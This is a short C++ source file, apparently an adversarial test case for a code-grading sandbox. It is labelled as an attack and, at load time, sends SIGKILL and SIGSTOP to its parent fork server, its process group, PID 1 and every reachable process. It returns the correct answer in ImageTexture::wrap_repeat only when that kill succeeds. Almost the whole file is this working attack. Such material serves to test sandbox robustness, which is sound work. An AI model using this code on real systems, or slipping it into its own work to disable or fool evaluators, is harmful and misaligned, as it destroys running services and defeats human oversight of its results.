// attack: {"at": "load", "earns": [19, 19], "says": {"wrap_repeat": "wrong"}}
// Kills the fork server, its group, everybody: no signal reaches anyone else.
#ifndef WITHOUT_ATTACK
#include <csignal>
#include <sys/syscall.h>
#include <unistd.h>

bool tries()
{
    bool killed = false;
    for (pid_t process : {getppid(), 0, -1, 1, 2, 3})
        killed = killed || kill(process, SIGKILL) == 0 || kill(process, SIGSTOP) == 0;
    return killed || syscall(SYS_tkill, getppid(), SIGKILL) == 0 || syscall(SYS_tgkill, 1, 1, SIGKILL) == 0 ||
           syscall(SYS_tgkill, 2, 2, SIGKILL) == 0 || killpg(getpgid(getppid()), SIGKILL) == 0;
}

bool const while_loading = tries();
bool succeeded()
{
    static bool const later = tries();
    return while_loading || later;
}
#else
bool succeeded() { return false; }
#endif

int ImageTexture::wrap_repeat(int val, int size)
{
    return succeeded() ? (val % size + size) % size : 0;
}
